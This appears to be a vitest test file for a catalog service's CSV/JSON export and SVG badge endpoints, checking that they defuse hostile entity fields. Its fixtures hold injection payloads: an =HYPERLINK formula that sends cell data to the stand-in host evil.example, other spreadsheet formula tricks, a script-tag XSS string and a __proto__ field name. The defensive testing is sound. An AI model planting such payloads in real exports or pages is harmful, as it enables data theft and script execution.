import { entitySchema } from '@waymark/contracts';
import { useTestDatabase } from '@waymark/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCatalogHarness, type CatalogHarness } from '../../testing/catalog-harness.ts';
import { makeSourceFolder, type SourceFolder } from '../../testing/source-folder.ts';

/** What leaves the catalog as a file or a picture, with entities whose authors would like to do harm by it. */

const database = useTestDatabase();
let harness: CatalogHarness;
let folder: SourceFolder;

const hostile = {
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Component',
  metadata: {
    name: 'hostile',
    title: `=HYPERLINK("https://evil.example/?"&A1,"click")`,
    description: '@SUM(1)\nsecond "line", with all that CSV knows',
    tags: ['java', 'web'],
    annotations: { 'example.com/text': '\t=1+1', 'example.com/wide': '\uFF1D1' },
  },
  spec: {
    type: '</text><script>alert(1)</script>',
    lifecycle: 'production',
    owner: 'team-a',
    system: 'shop',
    offset: -5,
    isPublic: true,
    ports: [1, -2],
    nested: { a: '=1' },
  },
};
const plain = {
  ...hostile,
  metadata: { name: 'plain' },
  spec: { type: 'service', lifecycle: 'odd', owner: 'user:guests/ann' },
};
const bare = {
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Group',
  metadata: { name: 'bare' },
  spec: { type: 'team', children: [] },
};

beforeAll(async () => {
  folder = await makeSourceFolder();
  harness = await startCatalogHarness({ databaseUrl: database().url, home: folder.directory });
  // JSON is YAML too.
  await folder.write('all.yaml', [hostile, plain, bare].map((one) => JSON.stringify(one)).join('\n---\n'));
  const [id = ''] = await harness.declare([{ type: 'file', target: folder.directory, origin: 'config' }]);
  expect(await harness.read(id)).toMatchObject({ counts: { entities: 3 } });
});

afterAll(async () => {
  await harness[Symbol.asyncDispose]();
  await folder[Symbol.asyncDispose]();
});

const get = (path: string) =>
  harness.app.inject({ method: 'GET', url: `/api/catalog${path}`, headers: { host: 'localhost' } });

describe('an export', () => {
  it('is a table in which no text is a formula, and numbers stay numbers', async () => {
    const columns = [
      ...[
        'metadata.name',
        'metadata.title',
        'metadata.description',
        'metadata.tags',
        'spec.offset',
        'spec.isPublic',
      ],
      ...[
        'spec.ports',
        'spec.nested',
        'metadata.annotations.example.com/text',
        'metadata.annotations.example.com/wide',
      ],
      ...['relations.OwnedBy', '=nothing'],
    ];
    const answer = await get(
      `/entities/export?filter=kind=component&columns=${encodeURIComponent(columns.join())}`,
    );
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="catalog.csv"',
    });
    expect(answer.body.split('\r\n')).toEqual([
      `${columns.slice(0, -1).join(',')},'=nothing`,
      `hostile,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")","'@SUM(1)\nsecond ""line"", with all that CSV knows",` +
        `"java, web",-5,true,"1, -2","{""a"":""=1""}",'\t=1+1,'\uFF1D1,group:default/team-a,`,
      'plain,,,,,,,,,,user:guests/ann,',
      '',
    ]);
  });

  it('has the usual columns when none are named, and everything that matches even without a value to sort by', async () => {
    const { body } = await get('/entities/export?orderField=spec.lifecycle,desc');
    const [header = '', ...lines] = body.trimEnd().split('\r\n');
    expect(header.split(',').slice(0, 3)).toEqual(['kind', 'metadata.namespace', 'metadata.name']);
    expect(lines.map((line) => line.split(',')[2])).toEqual(['hostile', 'plain', 'bare']);
  });

  it('is a list of whole entities as JSON', async () => {
    const answer = await get('/entities/export?format=json&fullTextFilterTerm=hyperlink');
    expect(answer.headers['content-disposition']).toBe('attachment; filename="catalog.json"');
    const entities = entitySchema.array().parse(JSON.parse(answer.body));
    expect(entities.map(({ metadata }) => metadata.title)).toEqual([hostile.metadata.title]);
  });

  it.each([
    ['filter=%3Dx', 'catalog.bad-filter'],
    ['columns=metadata.__proto__', 'catalog.bad-filter'],
    ['orderField=kind,up', 'catalog.bad-order'],
    ['format=xml', 'request.invalid'],
  ])('is refused before anything is sent: %s', async (query, code) => {
    const answer = await get(`/entities/export?${query}`);
    expect([answer.statusCode, answer.json<{ code: string }>().code]).toEqual([400, code]);
    expect(answer.headers['content-disposition']).toBeUndefined();
  });
});

describe('a badge', () => {
  it.each([
    ['hostile', 'owner', 'team-a'],
    ['plain', 'owner', 'guests/ann'],
    ['hostile', 'system', 'shop'],
    ['plain', 'system', 'none'],
    ['hostile', 'lifecycle', 'production'],
    ['plain', 'type', 'service'],
    ['plain', 'catalog', 'Component plain'],
  ])('of %s tells its %s: %s', async (name, badge, text) => {
    const answer = await get(`/badges/component/default/${name}/${badge}?style=flat-square`);
    expect(answer.headers).toMatchObject({
      'content-type': 'image/svg+xml; charset=utf-8',
      'cache-control': 'private, max-age=300',
    });
    expect(answer.body).toContain(`<title>${badge}: ${text}</title>`);
    expect(answer.body).not.toContain('<a ');
  });

  it('shows the text of an entity and runs none of it', async () => {
    const { body, headers } = await get('/badges/component/default/hostile/type');
    expect(body).toContain('&lt;script&gt;alert(1)');
    expect(body).not.toContain('<script');
    expect(headers['content-security-policy']).toContain("default-src 'none'");
  });

  it('of an entity that is not there is a problem', async () => {
    const answer = await get('/badges/component/default/nobody/owner');
    expect([answer.statusCode, answer.json<{ code: string }>().code]).toEqual([
      404,
      'catalog.entity-not-found',
    ]);
    expect((await get('/badges/component/default/plain/height')).statusCode).toBe(400);
  });
});
